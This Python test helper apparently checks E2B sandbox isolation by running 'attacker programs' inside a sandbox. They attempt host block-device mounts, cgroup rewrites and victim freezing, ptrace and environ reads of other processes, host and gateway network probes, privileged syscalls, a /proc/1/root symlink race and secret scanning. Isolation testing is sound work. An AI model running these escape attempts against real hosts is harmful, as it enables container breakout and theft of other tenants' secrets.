"""Attacker programs run inside a sandbox (stdlib python3 only) and the runner that sends them.

Each program is PRELUDE + a body. The body reads its arguments from `A` (a dict), records
every attempt in `R` (name -> "ok[:detail]" or "fail:<error>") and never raises, so the test
gets one JSON object back and decides on the host what counts as an escape.
"""

from __future__ import annotations

import json
from typing import Any

from e2b import CommandExitException, Sandbox

MARK = "E2BT-RESULT "

PRELUDE = r"""
import ctypes, errno, json, os, socket, stat, struct, subprocess, sys, threading, time
A = json.loads(os.environ["E2BT_ARGS"])
R = {}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def err(e):
    return "fail:%s:%s" % (type(e).__name__, e)


def attempt(name, fn):
    try:
        v = fn()
        R[name] = "ok" if v is None else "ok:%s" % (v,)
    except BaseException as e:
        R[name] = err(e)


def sh(name, cmd, timeout=10):
    try:
        p = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=timeout)
        out = (p.stdout + p.stderr).strip()[-300:]
        R[name] = ("ok:" if p.returncode == 0 else "fail:rc=%d:" % p.returncode) + out
    except BaseException as e:
        R[name] = err(e)


def call(nr, *args):
    r = libc.syscall(nr, *args)
    if r < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def cmount(src, target, fstype, flags=0, data=None):
    r = libc.mount(src.encode(), target.encode(), fstype.encode() if fstype else None,
                   ctypes.c_ulong(flags), data.encode() if data else None)
    if r != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    R.setdefault("_mounted", []).append(target)


def write(path, data):
    with open(path, "w") as f:
        f.write(data)


def read(path, n=65536):
    with open(path, "rb") as f:
        return f.read(n)


def read_nonempty(path):
    data = read(path, 4096)
    if not data:
        raise OSError("empty")
    return len(data)


def list_nonempty(path):
    names = os.listdir(path)
    if not names:
        raise OSError("empty")
    return ",".join(sorted(names))
"""

EPILOGUE = r"""
print("E2BT-RESULT " + json.dumps(R), flush=True)
"""


def attack(
    sbx: Sandbox, body: str, user: str, args: dict[str, Any] | None = None, timeout: float = 30
) -> dict[str, str]:
    """Run PRELUDE + body as `user` in the sandbox and return its R dict."""
    src = PRELUDE + body + EPILOGUE
    envs = {"E2BT_SRC": src, "E2BT_ARGS": json.dumps(args or {})}
    cmd = "python3 -c 'import os; exec(os.environ[\"E2BT_SRC\"])'"
    try:
        r = sbx.commands.run(cmd, envs=envs, user=user, timeout=timeout)  # type: ignore[arg-type]
        out, errout = r.stdout, r.stderr
    except CommandExitException as e:
        out, errout = e.stdout, e.stderr
    lines = [ln for ln in out.splitlines() if ln.startswith(MARK)]
    assert lines, f"attacker program did not report:\nstdout={out[-2000:]}\nstderr={errout[-2000:]}"
    results: dict[str, str] = json.loads(lines[-1][len(MARK) :])
    # A command the shell could not find or run is an attack that never happened, not a denial.
    unrun = {k: v for k, v in results.items() if str(v).startswith(("fail:rc=126", "fail:rc=127"))}
    assert not unrun, f"attempts that never ran as {user}: {unrun}"
    return results


def ok(value: str | None) -> bool:
    return value is not None and value.startswith("ok")


def succeeded(results: dict[str, str], prefix: str = "") -> dict[str, str]:
    """The attempts (by name prefix) that worked: each one is an escape."""
    return {
        k: v for k, v in results.items() if k.startswith(prefix) and not k.startswith("_") and ok(v)
    }


# --------------------------------------------------------------------------------------------
# Bodies. Arguments are documented at the top of each.

# A: major, minor (host root device), fstype, marker
BLOCK_DEVICE = r"""
node = "/tmp/e2bt-disk-" + A["marker"]
mnt = "/tmp/e2bt-mnt-" + A["marker"]
os.makedirs(mnt, exist_ok=True)
attempt("mknod", lambda: os.mknod(node, 0o600 | stat.S_IFBLK, os.makedev(A["major"], A["minor"])))


def raw_read():
    fd = os.open(node, os.O_RDONLY)
    try:
        return len(os.read(fd, 4096))
    finally:
        os.close(fd)


attempt("read_disk", raw_read)
attempt("mount_disk", lambda: cmount(node, mnt, A["fstype"]))
if "mount_disk" in R and R["mount_disk"].startswith("ok"):
    attempt("write_host_fs", lambda: write(mnt + "/" + A["marker"], "escaped\n"))
    libc.umount2(mnt.encode(), 2)
sh("mount_cmd", "mount -t %s %s %s" % (A["fstype"], node, mnt))
if R["mount_cmd"].startswith("ok"):
    attempt("write_host_fs_cmd", lambda: write(mnt + "/" + A["marker"], "escaped\n"))
    sh("umount_cmd", "umount -l " + mnt)
# /dev/mem: a character device outside the standard set (open only, never read)
mem = "/tmp/e2bt-mem-" + A["marker"]
attempt("mknod_mem", lambda: os.mknod(mem, 0o600 | stat.S_IFCHR, os.makedev(1, 1)))
attempt("open_mem", lambda: os.close(os.open(mem, os.O_RDONLY)))
"""

# A: marker, victim_freezer (host path of the victim's freezer cgroup or "")
CGROUPS = r"""
own = {}
for line in open("/proc/self/cgroup"):
    _hid, ctls, path = line.rstrip("\n").split(":", 2)
    for c in ctls.split(","):
        own[c or "unified"] = path
R["_own_cgroups"] = json.dumps(own)
roots = []  # (controller, directory where a hierarchy root is visible)
for ctl in ("memory", "pids", "freezer", "cpu", "cpuacct", "cpuset", "devices", "blkio",
            "net_cls", "perf_event", "name=systemd"):
    d = "/tmp/e2bt-cg-" + ctl.replace("=", "_")
    os.makedirs(d, exist_ok=True)
    attempt("mount:cgroup:" + ctl, lambda: cmount("cgroup", d, "cgroup", 0, ctl))
    if R["mount:cgroup:" + ctl].startswith("ok"):
        roots.append((ctl, d))
d = "/tmp/e2bt-cg2"
os.makedirs(d, exist_ok=True)
attempt("mount:cgroup2", lambda: cmount("cgroup2", d, "cgroup2"))
if R["mount:cgroup2"].startswith("ok"):
    roots.append(("unified", d))
sh("mount_cmd:cgroup:memory", "mkdir -p /tmp/e2bt-cgm && mount -t cgroup -o memory x /tmp/e2bt-cgm")
sh("_umount_cmd", "umount -l /tmp/e2bt-cgm")
for ctl in ("memory", "pids", "freezer", "cpu", "devices"):
    if os.path.isdir("/sys/fs/cgroup/" + ctl):
        roots.append((ctl, "/sys/fs/cgroup/" + ctl))
if os.path.exists("/sys/fs/cgroup/cgroup.procs"):
    roots.append(("unified", "/sys/fs/cgroup"))
R["_roots"] = json.dumps(roots)
me = str(os.getpid())
for ctl, root in roots:
    groups = {root}
    if own.get(ctl, "/") != "/":
        groups.add(root + own[ctl])
    for g in sorted(groups):
        tag = "%s@%s" % (ctl, g)
        if ctl == "memory":
            attempt("write:memory.limit_in_bytes:" + tag,
                    lambda: write(g + "/memory.limit_in_bytes", str(4 << 30)))
        if ctl == "pids":
            attempt("write:pids.max:" + tag, lambda: write(g + "/pids.max", "max"))
        if ctl == "unified":
            attempt("write:memory.max:" + tag, lambda: write(g + "/memory.max", "max"))
        if ctl == "devices":
            attempt("write:devices.allow:" + tag, lambda: write(g + "/devices.allow", "a"))
    # move ourselves to the root of the hierarchy we see
    attempt("write:cgroup.procs:%s@%s" % (ctl, root), lambda: write(root + "/cgroup.procs", me))
    victim = A.get("victim_freezer") or ""
    if ctl == "freezer" and victim:
        attempt("write:freezer.state:victim@" + root,
                lambda: write(root + victim + "/freezer.state", "FROZEN"))
        for dirpath, dirnames, _files in os.walk(root):
            if dirpath.count("/") - root.count("/") > 5:
                dirnames[:] = []
            if A.get("victim_id") and A["victim_id"] in dirpath:
                attempt("write:freezer.state:" + dirpath,
                        lambda: write(dirpath + "/freezer.state", "FROZEN"))
    if ctl == "unified" and victim:
        attempt("write:cgroup.freeze:victim@" + root,
                lambda: write(root + victim + "/cgroup.freeze", "1"))
for t in R.get("_mounted", []):
    libc.umount2(t.encode(), 2)
R.pop("_mounted", None)
# a child that stays behind, in whatever cgroup this process ended up in
subprocess.Popen(["bash", "-c", "exec -a e2bt-moved-%s sleep 60" % A["marker"]],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

# A: writes {relative /proc/sys path: value}
PROC_SYS = r"""
for rel, value in A["writes"].items():
    attempt("write:/proc/sys/" + rel, lambda: write("/proc/sys/" + rel, value))
# sysctl is in /usr/sbin, off a plain user's PATH (the attempt must run as either user)
sh("sysctl_cmd", "PATH=$PATH:/usr/sbin:/sbin sysctl -w kernel.pid_max=%s"
   % A["writes"].get("kernel/pid_max", "40000"))
sh("remount_proc_sys_rw", "mount -o remount,rw /proc/sys")
# opening sysrq-trigger for writing is the attempt; nothing is ever written to it
attempt("open:/proc/sysrq-trigger", lambda: os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY)))
for p in A["masked"]:
    attempt("read:" + p, lambda: read_nonempty(p))
for p in A["masked_dirs"]:
    attempt("list:" + p, lambda: list_nonempty(p))
"""

# A: paths
READ_FILES = r"""
import base64
for p in A["paths"]:
    attempt("read:" + p, lambda: base64.b64encode(read(p, 1 << 20)).decode())
"""

# A: marker, targets [[host, port]] (TCP), udp_targets [[host, port]] (UDP and raw IPv4),
#    http [[host, port]] (GET /health), gateway_tcp / gateway_udp (ports to try on the gateway)
NETWORK = r"""
marker = A["marker"].encode()


def tcp(host, port):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(fam, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect((host, port))
        s.sendall(marker + b"\n")
        s.settimeout(1)
        try:
            return s.recv(100).decode(errors="replace") or "connected"
        except OSError:
            return "connected"


def http(host, port):
    with socket.create_connection((host, port), timeout=2) as s:
        s.sendall(b"GET /health HTTP/1.0\r\nHost: x\r\n\r\n")
        s.settimeout(2)
        return s.recv(200).decode(errors="replace").split("\r\n")[0]


def udp(host, port):
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(fam, socket.SOCK_DGRAM) as s:
        return s.sendto(marker + b" udp", (host, port))


def raw_udp(host, port):
    # an IPv4 raw socket: the kernel adds the IP header, we write UDP (checksum 0 = none)
    payload = marker + b" raw"
    hdr = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
        return s.sendto(hdr + payload, (host, 0))


def gateways():
    out = []
    with open("/proc/net/route") as f:
        for line in f.read().splitlines()[1:]:
            fl = line.split()
            if fl[1] == "00000000" and fl[2] != "00000000":
                out.append(socket.inet_ntoa(struct.pack("<I", int(fl[2], 16))))
    return out


# the sandbox's own default gateway is the host end of its link: a host address too
for gw in gateways():
    if A.get("gateway_tcp"):
        A["targets"].append([gw, A["gateway_tcp"]])
    if A.get("gateway_udp"):
        A["udp_targets"].append([gw, A["gateway_udp"]])
R["_gateways"] = ",".join(gateways())
threads = []
for host, port in A.get("targets", []):
    threads.append(threading.Thread(target=attempt, args=("tcp:%s:%d" % (host, port),
                                                          lambda h=host, p=port: tcp(h, p))))
for host, port in A.get("http", []):
    threads.append(threading.Thread(target=attempt, args=("http:%s:%d" % (host, port),
                                                          lambda h=host, p=port: http(h, p))))
for t in threads:
    t.start()
for host, port in A.get("udp_targets", []):
    for _ in range(3):
        attempt("udp:%s:%d" % (host, port), lambda: udp(host, port))
        if ":" not in host:
            attempt("raw:%s:%d" % (host, port), lambda: raw_udp(host, port))
for t in threads:
    t.join()
"""

# A: pids {name: pid}
PTRACE = r"""
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
libc.ptrace.restype = ctypes.c_long
for name, pid in A["pids"].items():
    try:
        R["cmdline:" + name] = read("/proc/%d/cmdline" % pid, 4096).decode(errors="replace")
    except OSError as e:
        R["cmdline:" + name] = err(e)
    attempt("kill0:" + name, lambda: os.kill(pid, 0))

    def attach():
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
            e = ctypes.get_errno()
            raise OSError(e, os.strerror(e))
        os.waitpid(pid, 0)
        libc.ptrace(PTRACE_DETACH, pid, None, None)

    attempt("ptrace:" + name, attach)
    attempt("environ:" + name, lambda: read("/proc/%d/environ" % pid)[:200].decode("latin-1"))
"""

# A: marker
PRIVILEGED = r"""
NR = {"finit_module": 313, "kexec_load": 246, "add_key": 248, "keyctl": 250, "bpf": 321,
      "settimeofday": 164, "name_to_handle_at": 303, "open_by_handle_at": 304, "ioperm": 173}
m = A["marker"]
sh("unshare -Ur", "unshare -Ur true")
sh("unshare -m", "unshare -m true")
sh("unshare -U", "unshare -U true")
sh("unshare -n", "unshare -n true")
sh("unshare -Urm mount tmpfs", "unshare -Urm sh -c 'mount -t tmpfs none /mnt'")
os.makedirs("/tmp/e2bt-tmpfs", exist_ok=True)
sh("mount -t tmpfs", "mount -t tmpfs none /tmp/e2bt-tmpfs")
attempt("mount(2) tmpfs", lambda: cmount("none", "/tmp/e2bt-tmpfs", "tmpfs"))
attempt("mount(2) bind /", lambda: cmount("/", "/tmp/e2bt-tmpfs", None, 4096 | 16384))
sh("mount -o remount,rw /", "mount -o remount,rw,suid,dev /")
sh("mount proc", "mkdir -p /tmp/e2bt-proc && mount -t proc proc /tmp/e2bt-proc")
for t in R.get("_mounted", []):
    libc.umount2(t.encode(), 2)
R.pop("_mounted", None)
sh("hostname", "hostname e2bt-" + m)
attempt("sethostname(2)", lambda: socket.sethostname("e2bt-" + m))
# a file of this run's own: another user's left in /tmp would fail the redirect, not dmesg
sh("dmesg", "dmesg > /tmp/e2bt-dmesg-%s && wc -l < /tmp/e2bt-dmesg-%s" % (m, m))


def finit_module():
    fd = os.open("/dev/null", os.O_RDONLY)
    try:
        call(NR["finit_module"], fd, b"", 0)
    finally:
        os.close(fd)


attempt("finit_module", finit_module)
attempt("kexec_load", lambda: call(NR["kexec_load"], 0, 0, None, ctypes.c_ulong(0xFFFF0000)))
attempt("add_key", lambda: call(NR["add_key"], b"user", ("e2bt-" + m).encode(), b"x",
                                ctypes.c_size_t(1), ctypes.c_int(-2)))
attempt("keyctl get user keyring", lambda: call(NR["keyctl"], 0, ctypes.c_int(-4), 0))


def bpf_map():
    attr = struct.pack("IIIII", 2, 4, 4, 1, 0) + b"\0" * 100  # BPF_MAP_TYPE_ARRAY
    buf = ctypes.create_string_buffer(attr, len(attr))
    fd = call(NR["bpf"], 0, buf, len(attr))
    os.close(fd)


attempt("bpf map create", bpf_map)
attempt("settimeofday(NULL,NULL)", lambda: call(NR["settimeofday"], None, None))


def ioperm():
    call(NR["ioperm"], ctypes.c_ulong(0x80), ctypes.c_ulong(1), 1)
    call(NR["ioperm"], ctypes.c_ulong(0x80), ctypes.c_ulong(1), 0)


attempt("ioperm", ioperm)


def open_by_handle():
    buf = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + b"\0" * 128)
    mount_id = ctypes.c_int()
    call(NR["name_to_handle_at"], -100, b"/etc/hostname", buf, ctypes.byref(mount_id), 0)
    root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.close(call(NR["open_by_handle_at"], root, buf, os.O_RDONLY))
    finally:
        os.close(root)


attempt("open_by_handle_at", open_by_handle)
"""

# A: none
DEV_LIST = r"""
nodes = []
for dirpath, dirnames, files in os.walk("/dev"):
    for n in files + dirnames:
        p = os.path.join(dirpath, n)
        try:
            s = os.lstat(p)
        except OSError:
            continue
        kind = ("blk" if stat.S_ISBLK(s.st_mode) else "chr" if stat.S_ISCHR(s.st_mode)
                else None)
        if kind:
            nodes.append([p, kind, os.major(s.st_rdev), os.minor(s.st_rdev)])
R["_nodes"] = json.dumps(nodes)
"""

# A: marker
PROC_ROOT = r"""
m = A["marker"]
attempt("write /opt", lambda: write("/opt/e2bt-opt-" + m, "x"))
attempt("write /proc/1/root/opt", lambda: write("/proc/1/root/opt/e2bt-p1opt-" + m, "x"))
attempt("write /proc/1/root/", lambda: write("/proc/1/root/e2bt-p1-" + m, "x"))
attempt("write /proc/self/root/", lambda: write("/proc/self/root/e2bt-self-" + m, "x"))
for pid in [p for p in os.listdir("/proc") if p.isdigit()][:20]:
    attempt("write /proc/%s/root/" % pid,
            lambda: write("/proc/%s/root/e2bt-pid-%s" % (pid, m), "x"))
attempt("list /proc/1/root", lambda: ",".join(sorted(os.listdir("/proc/1/root"))))
attempt("list /proc/1/root/work", lambda: list_nonempty("/proc/1/root/work"))
attempt("chmod /dev/null", lambda: os.chmod("/dev/null", 0o600))
attempt("chown /dev/null", lambda: os.chown("/dev/null", 0, 0))
attempt("chmod /dev/urandom", lambda: os.chmod("/dev/urandom", 0o600))
attempt("chmod /dev/tty", lambda: os.chmod("/dev/tty", 0o600))
attempt("utime /dev/zero", lambda: os.utime("/dev/zero", (0, 0)))
"""

# argv: base dir, canary host path, max seconds. Swaps each dN with dN.alt (a symlink) atomically
# until the file `stop` appears in the base dir.
RACE_LOOP = r"""
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
base, canary, secs = sys.argv[1], sys.argv[2], float(sys.argv[3])
targets = {"d1": "/", "d2": "/proc/1/root/", "d3": canary}
os.makedirs(base, exist_ok=True)
os.chdir(base)
for n, t in targets.items():
    os.makedirs(n, exist_ok=True)
    os.symlink(t, n + ".alt")
open("ready", "w").close()
print("racing", flush=True)
end = time.time() + secs
swaps = 0
while time.time() < end and not os.path.exists("stop"):
    for n in targets:
        libc.renameat2(-100, n.encode(), -100, (n + ".alt").encode(), 2)  # RENAME_EXCHANGE
        swaps += 1
print("swaps", swaps, flush=True)
"""

# A: reversed (the bytes to look for, reversed so that this program's own argv and
# environment never hold them)
FIND_BYTES = r"""
needle = A["reversed"][::-1].encode()
hits = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for f in ("environ", "cmdline"):
        try:
            if needle in read("/proc/%s/%s" % (pid, f), 1 << 20):
                hits.append("/proc/%s/%s" % (pid, f))
        except OSError:
            pass
R["found"] = ("ok:" + ",".join(hits)) if hits else "fail:not found"
"""
